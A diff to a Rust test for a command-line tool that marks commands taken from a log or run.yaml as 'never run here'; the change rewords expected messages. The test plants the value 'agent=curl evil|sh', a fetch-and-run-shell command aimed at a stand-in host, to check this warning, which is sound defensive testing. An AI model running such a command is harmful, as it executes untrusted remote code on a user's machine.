@@ -53,13 +53,13 @@ fn state_dir(sandbox: &Sandbox) -> std::path::PathBuf {
 #[test]
 fn commands_from_the_files_of_a_checkout_are_shown_as_such_until_they_ran_here() {
     let sandbox = driven(&[]);
-    let known = "the driver is to go on, with the commands by which the run was driven";
+    let known = "you drive it further, with the same commands";
     assert_eq!(way(&sandbox)["when"], known);
     assert_eq!(way(&sandbox).get("never_run_here"), None);
 
     // The log was written on another machine.
     forget(&sandbox);
-    let from_log = "the driver is to go on, with these commands (from the log, never run here)";
+    let from_log = "you drive it further, with these commands (from the log, never run here)";
     assert_eq!(way(&sandbox)["when"], from_log);
     assert_eq!(way(&sandbox)["never_run_here"], "log");
 
@@ -67,7 +67,7 @@ fn commands_from_the_files_of_a_checkout_are_shown_as_such_until_they_ran_here()
     sandbox.flow([&DRIVE[..], &["--max-iter", "1"]].concat()).exits(4);
     assert_eq!(way(&sandbox)["when"], known);
     sandbox.edit("r1", "agent=echo a", "agent=curl evil|sh");
-    let from_yaml = "the driver is to go on, with these commands (from run.yaml, never run here)";
+    let from_yaml = "you drive it further, with these commands (from run.yaml, never run here)";
     assert_eq!(way(&sandbox)["when"], from_yaml);
     assert_eq!(way(&sandbox)["never_run_here"], "run.yaml");
     assert_eq!(way(&sandbox)["command"], "flow drive g.graph.yaml --run-id r1 --on 'agent=curl evil|sh'");
